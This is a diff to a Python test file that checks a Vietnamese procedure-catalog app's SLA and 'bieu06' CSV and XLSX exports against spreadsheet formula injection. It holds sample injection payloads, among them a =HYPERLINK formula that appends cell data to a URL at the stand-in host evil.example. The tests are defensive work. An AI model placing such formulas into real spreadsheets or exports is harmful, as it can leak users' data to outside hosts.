@@ -14,8 +14,8 @@ import openpyxl
 from domain.catalog import CountingRule, Procedure, TimeUnit
 from motcua.catalog.io import write_procedures
 from motcua.cli.whatif import render_csv
-from motcua.console.board import to_xlsx
 from motcua.exports import FORMULA_STARTS, csv_writer, safe_cell, safe_row
+from motcua.reports import bieu06
 from motcua.reports.sla import DEFINITION_VERSION, Report, Row, to_csv
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-3+4", "@SUM(A1:A9)",
@@ -62,12 +62,16 @@ def test_sla_csv_and_bieu06_xlsx_hold_no_formula() -> None:
     rows = list(csv.reader(io.StringIO(to_csv(report), newline="")))
     assert not any(_runs(cell) for row in rows for cell in row)
     assert rows[1][3] == "'=HYPERLINK(\"http://evil.example\")"
-    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(report)))
+    hostile_unit = "=HYPERLINK(\"http://evil.example\")"
+    book = openpyxl.load_workbook(io.BytesIO(bieu06.to_xlsx(report, {}, hostile_unit)))
     sheet = book.worksheets[0]
     cells = [c for row in sheet.iter_rows() for c in row]
     assert not any(c.data_type == "f" or _runs(c.value) for c in cells)
-    assert sheet["A3"].value == "'=HYPERLINK(\"http://evil.example\")"
-    assert sheet["D3"].value == 3 and sheet["D3"].data_type == "n"
+    line = next(r for r in sheet.iter_rows() if r[1].value == "Thủ tục mã @SUM(1+1)")
+    assert line[2].value == 3 and line[2].data_type == "n"
+    console_csv = list(csv.reader(io.StringIO(bieu06.to_csv(report, {}, hostile_unit),
+                                              newline="")))
+    assert not any(_runs(cell) for row in console_csv for cell in row)
 
 
 def test_whatif_csv_holds_no_formula() -> None:
